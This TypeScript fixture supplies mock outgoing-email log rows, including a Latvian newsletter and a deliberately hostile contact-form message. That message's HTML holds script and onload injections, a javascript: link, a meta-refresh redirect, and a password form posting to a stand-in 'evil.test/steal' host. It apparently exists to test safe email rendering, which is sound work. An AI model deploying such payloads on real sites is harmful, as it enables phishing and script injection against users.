import type { MockOutgoingEmail } from '../../store/log-rows'

type Email = Pick<MockOutgoingEmail, 'to' | 'subject' | 'status' | 'text' | 'html'>

/** An email with a picture of another site, as newsletters have. */
const newsletter = `<!doctype html><html><head><style>
h1 { color: #7c3aed } .cover { background: url(https://pictures.test/background.png) }
</style></head><body><h1>Jaunās dziesmas</h1><p>Šonedēļ: <b>“Aijā, žūžū”</b> un vēl 11 dziesmas.</p>
<img src="https://pictures.test/vaks.png" alt="Albuma vāks" width="120" height="120">
<p><a href="https://dziesma.test/new">Klausīties</a></p></body></html>`

/** Message of a stranger through the contact page, with everything that could act by itself. */
const hostile = `<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/out">
<link rel="stylesheet" href="https://evil.test/style.css"><style>@import url(https://evil.test/more.css);
body { background: url('https://evil.test/css.png') }</style>
<script>top.document.title = 'uzlauzts'</script><svg onload="top.document.title='uzlauzts'"></svg>
<p onclick="top.location='https://evil.test/'">Labdien!</p>
<a href="https://evil.test/top" target="_top">Balva</a> <a href="javascript:top.document.title='uzlauzts'">Vēl</a>
<form action="https://evil.test/steal" target="_top"><input name="password" autofocus><button>Saņemt balvu</button></form>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object>
<video autoplay src="https://evil.test/video.mp4"></video>`

const emails: readonly Email[] = [
  {
    to: 'admin@dziesma.test',
    subject: 'Ziņa no saziņas lapas: <b>balva</b>',
    status: 'sent',
    text: 'Labdien! Saņemiet balvu: https://evil.test/top',
    html: hostile,
  },
  {
    to: 'subscriber@dziesma.test',
    subject: 'Jaunās dziesmas šonedēļ',
    status: 'sent',
    text: 'Šonedēļ: “Aijā, žūžū” un vēl 11 dziesmas.',
    html: newsletter,
  },
  {
    to: 'free@dziesma.test',
    subject: 'Apstiprini savu e-pasta adresi',
    status: 'no-sent',
    text: 'Tavs kods ir 123456.',
    html: null,
  },
  {
    to: 'parent@dziesma.test, nav-adrese@',
    subject: 'Rēķins par oktobri',
    status: 'error',
    text: null,
    html: '<p>Rēķins ir pielikumā.</p>',
  },
]

/** Log of outgoing emails. */
export const outgoingEmails: readonly MockOutgoingEmail[] = emails.map((email, index) => {
  const created_at = `2026-10-02T07:0${index}:00.000000Z`
  return { ...email, id: index + 1, from: 'Dziesma <pasts@dziesma.test>', created_at, updated_at: created_at }
})
